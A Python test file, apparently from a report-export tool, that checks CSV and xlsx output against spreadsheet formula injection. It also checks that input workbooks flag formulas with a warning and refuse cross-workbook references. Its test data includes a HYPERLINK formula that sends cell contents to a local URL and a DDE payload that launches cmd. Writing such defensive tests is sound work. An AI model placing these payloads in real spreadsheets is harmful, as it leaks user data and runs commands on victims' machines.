"""Spreadsheet formula injection: CSV and xlsx write text as text; xlsx formulas in inputs are
used only with a note, never silently, and a reference to another workbook is refused."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from assistant.errors import InputError
from assistant.export.spreadsheet import csv_text
from assistant.export.xlsx import write_workbook
from assistant.ingest import read_report
from assistant.report import Agency, Cell, zero_report
from assistant.report.layout import load_layout
from assistant.report.workbook import default_addresses
from assistant.usecases.batch import run_batch, write_csv

NASTY = '=HYPERLINK("http://127.0.0.1:9/?x="&A1,"点击")'


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-3", "-3"),
        ("+2", "+2"),
        ("某县统计局", "某县统计局"),
        (5, 5),
    ],
)
def test_csv_text(value: object, expected: object) -> None:
    assert csv_text(value) == expected


def test_check_csv_writes_a_formula_like_name_as_text(tmp_path: Path) -> None:
    path = tmp_path / "r.yaml"
    path.write_text(f"单位: {{名称: '{NASTY}'}}\n年度: 2025\n", encoding="utf-8")
    out = tmp_path / "out.csv"
    write_csv(run_batch([path], progress=False), out)
    with out.open(encoding="utf-8-sig", newline="") as fh:
        row = next(csv.DictReader(fh))
    assert row["机关"] == "'" + NASTY


def test_xlsx_export_writes_text_as_text_and_reads_it_back(tmp_path: Path) -> None:
    report = zero_report(2025, "某县统计局")
    report = report.model_copy(update={"agency": Agency(name=NASTY, parent="=1+1")})
    book = write_workbook(tmp_path / "out.xlsx", report)
    with zipfile.ZipFile(book) as archive:
        xml = b"".join(archive.read(n) for n in archive.namelist() if n.startswith("xl/"))
    assert b"<f>" not in xml  # no formula anywhere in the file
    back = read_report(book)
    assert back.agency.name == NASTY and back.agency.parent == "=1+1"


def _with_formula(book: Path, key: str, formula: str, cached: int) -> Path:
    """The workbook as Excel saves a formula: <f> with its computed value <v>."""
    sheet, ref = default_addresses(load_layout("2021"))[key]
    wb = openpyxl.load_workbook(book, read_only=True)
    index = wb.sheetnames.index(sheet) + 1
    wb.close()
    member = f"xl/worksheets/sheet{index}.xml"
    out = io.BytesIO()
    with zipfile.ZipFile(book) as zin, zipfile.ZipFile(out, "w") as zout:
        for info in zin.infolist():
            data = zin.read(info)
            if info.filename == member:
                cell = re.compile(rb'<c r="' + ref.encode() + rb'"([^>]*?)(?:/>|>.*?</c>)', re.S)
                attrs = re.sub(rb'\s*t="\w+"', b"", cell.search(data)[1])
                new = b'<c r="%s"%s><f>%s</f><v>%d</v></c>' % (
                    ref.encode(),
                    attrs,
                    formula.encode(),
                    cached,
                )
                data = cell.sub(new, data, count=1)
            zout.writestr(info, data)
    book.write_bytes(out.getvalue())
    return book


def test_a_formula_in_an_input_is_used_with_a_note(tmp_path: Path) -> None:
    report = zero_report(2025, "某县统计局").with_cells({"apply.new.total": Cell.of(0)})
    book = _with_formula(write_workbook(tmp_path / "in.xlsx", report), "apply.new.total", "1+2", 3)
    back = read_report(book)
    assert back.cells["apply.new.total"].value == 3
    assert any("是公式" in n.message and n.level == "warning" for n in back.notes)


def test_a_reference_to_another_workbook_is_refused(tmp_path: Path) -> None:
    book = _with_formula(
        write_workbook(tmp_path / "in.xlsx", zero_report(2025, "某县统计局")),
        "apply.new.total",
        "[1]Sheet1!A1",
        7,
    )
    with pytest.raises(InputError, match="引用了其他工作簿"):
        read_report(book)
